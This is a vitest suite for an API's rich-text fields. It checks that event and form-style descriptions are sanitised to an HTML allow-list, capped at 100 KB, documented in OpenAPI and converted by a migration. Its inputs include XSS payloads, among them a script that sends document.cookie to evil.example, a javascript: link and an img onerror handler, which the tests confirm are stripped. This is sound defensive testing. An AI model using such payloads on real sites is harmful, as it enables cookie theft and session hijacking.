import { afterAll, beforeAll, expect, it } from 'vitest';
import { describeEachDb } from '../helpers/db.js';
import type { Signed, TestApp } from '../helpers/app.js';
import { uid } from '../helpers/app.js';
import { accountPath, createRecord, startConsoleApp } from '../helpers/console.js';
import { events } from '../../resources/events.js';
import { formStyles } from '../../resources/formStyles.js';
import { RICHTEXT_MAX_BYTES } from '../../resources/richtext.js';
import { appliedMigrations, migrationSource } from '../../api/db/migrationSource.js';

type Row = Record<string, unknown>;

const MIGRATION = '20261126000002_add_rich_text.ts';

/**
 * Field kind richtext through the API (platform-and-flows.md section 1): what is stored is the allow-list's HTML
 * whatever was sent, on create and update, for every resource that declares such a field (events, form styles); over
 * 100 KB is a 400 naming the field; the migration turned the styles' plain descriptions into HTML that shows the same.
 */
describeEachDb('rich text fields', (kind) => {
  let t: TestApp;
  let root: Signed;
  let a: string;
  beforeAll(async () => {
    ({ t, root, a } = await startConsoleApp(kind, 'Rich text'));
  });
  afterAll(() => t?.close());

  const newEvent = (body: Row) => root.post(accountPath(a, events), { ev_title: `Expo ${uid()}`, ev_name: uid(), ev_access_type: 'open', ...body });
  const stored = async (table: string, key: string, id: unknown, column: string) => (await t.db(table).where(key, String(id)).first(column))?.[column];

  it('an event with a script in ev_description stores the clean HTML, and answers it', async () => {
    const res = await newEvent({
      ev_description:
        '<h2 style="color:red">Spring Expo</h2><p onclick="steal()">Hall 5. <a href="javascript:alert(1)">Tickets</a>, ' +
        '<a href="https://expo.example.com/plan" target="_self">plan</a></p><script>fetch("https://evil.example/?c="+document.cookie)</script>' +
        '<iframe src="https://evil.example/"></iframe>',
    });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    const clean = '<h2>Spring Expo</h2><p>Hall 5. <a>Tickets</a>, <a href="https://expo.example.com/plan" rel="noopener noreferrer" target="_blank">plan</a></p>';
    expect(res.body.ev_description).toBe(clean);
    expect(await stored('events', 'ev_id', res.body.id, 'ev_description')).toBe(clean);
    expect((await root.get(`${accountPath(a, events)}/${res.body.id}`)).body.ev_description).toBe(clean);
  });

  it('an update is sanitised too; a value with no text left, or empty, clears the field', async () => {
    const created = (await newEvent({ ev_description: '<p>First</p>' })).body;
    const url = `${accountPath(a, events)}/${created.id}`;
    const updated = await root.put(url, { ev_description: '<p>Second <b>bold</b> <strong>strong</strong></p><img src=x onerror=alert(1)>' });
    expect(updated.status, JSON.stringify(updated.body)).toBe(200);
    expect(await stored('events', 'ev_id', created.id, 'ev_description')).toBe('<p>Second bold <strong>strong</strong></p>');
    expect((await root.put(url, { ev_description: '<script>alert(1)</script>' })).body.ev_description).toBeNull();
    expect((await root.put(url, { ev_description: '<p>Back</p>' })).body.ev_description).toBe('<p>Back</p>');
    expect((await root.put(url, { ev_description: '' })).body.ev_description).toBeNull();
    expect(await stored('events', 'ev_id', created.id, 'ev_description')).toBeNull();
  });

  it('over 100 KB: 400 with the field (error_too_long), and nothing is stored', async () => {
    const fits = `<p>${'x'.repeat(RICHTEXT_MAX_BYTES - 7)}</p>`;
    const ok = await newEvent({ ev_description: fits });
    expect(ok.status).toBe(201);
    expect(await stored('events', 'ev_id', ok.body.id, 'ev_description')).toBe(fits);

    const before = await t.db('events').where('ev_accountid', a).count({ n: '*' }).first();
    const over = await newEvent({ ev_description: `${fits}x` });
    expect(over.status).toBe(400);
    expect(over.body).toMatchObject({ code: 'validation_failed', fields: { ev_description: 'error_too_long' } });
    // Within the limit as sent, past it as stored: every < of the text becomes &lt;.
    const grows = await newEvent({ ev_description: `<p>${'<'.repeat(RICHTEXT_MAX_BYTES / 2)}</p>` });
    expect(grows.status).toBe(400);
    expect(grows.body.fields).toEqual({ ev_description: 'error_too_long' });
    expect(await t.db('events').where('ev_accountid', a).count({ n: '*' }).first()).toEqual(before);

    const put = await root.put(`${accountPath(a, events)}/${ok.body.id}`, { ev_description: `${fits}x` });
    expect(put.status).toBe(400);
    expect(put.body.fields).toEqual({ ev_description: 'error_too_long' });
    expect(await stored('events', 'ev_id', ok.body.id, 'ev_description')).toBe(fits);
  });

  it("the form style's two descriptions are rich text as well; its other long texts are not touched", async () => {
    const style = await createRecord(root, a, formStyles, {
      st_form_description: '<p>Free <em>entry</em></p><style>body{display:none}</style>',
      st_thanks_description: '<ul><li onmouseover="x()">Badge</li></ul><a href="mailto:info@example.com">Mail us</a>',
      st_mail_html: '<p style="color:red">Mail HTML is its own thing</p>',
    });
    const row = await t.db('form_styles').where('st_id', String(style.id)).first();
    expect(row.st_form_description).toBe('<p>Free <em>entry</em></p>');
    expect(row.st_thanks_description).toBe('<ul><li>Badge</li></ul><a href="mailto:info@example.com" rel="noopener noreferrer">Mail us</a>');
    expect(row.st_mail_html).toBe('<p style="color:red">Mail HTML is its own thing</p>');
  });

  it('the OpenAPI document says a rich text field is HTML, with the allow-list and the limit', async () => {
    const doc = (await t.client().get('/api/1/openapi.json')).body;
    const body = doc.paths['/api/1/accounts/{accountId}/events'].post.requestBody.content['application/json'].schema;
    const field = body.properties.ev_description.anyOf[0];
    expect(field).toMatchObject({ type: 'string', contentMediaType: 'text/html' });
    expect(field.description).toContain('p, br, strong, em, u, s, a, ul, ol, li, h2, h3, blockquote');
    expect(field.description).toContain(`${RICHTEXT_MAX_BYTES} bytes`);
  });

  it('the migration made HTML of plain descriptions that shows the same text, and its down makes text again', async () => {
    const style = await createRecord(root, a, formStyles, {});
    await t.db.migrate.down({ migrationSource, name: MIGRATION });
    try {
      const plain = 'Line one\nline <two> & "three"\r\n\r\n  Second paragraph  \n\n\n';
      await t.db('form_styles').where('st_id', String(style.id)).update({ st_form_description: plain, st_thanks_description: '   ' });
      await t.db.migrate.up({ migrationSource, name: MIGRATION });
      const row = await t.db('form_styles').where('st_id', String(style.id)).first();
      expect(row.st_form_description).toBe('<p>Line one<br>line &lt;two&gt; &amp; "three"</p><p>Second paragraph</p>');
      expect(row.st_thanks_description).toBe('   '); // blank: left alone (the page shows nothing for it either way)
      await t.db.migrate.down({ migrationSource, name: MIGRATION });
      const back = await t.db('form_styles').where('st_id', String(style.id)).first();
      expect(back.st_form_description).toBe('Line one\nline <two> & "three"\n\nSecond paragraph');
    } finally {
      if (!(await appliedMigrations(t.db)).includes(MIGRATION)) await t.db.migrate.up({ migrationSource, name: MIGRATION });
    }
    expect(await t.db.schema.hasColumn('events', 'ev_description')).toBe(true);
  });
});
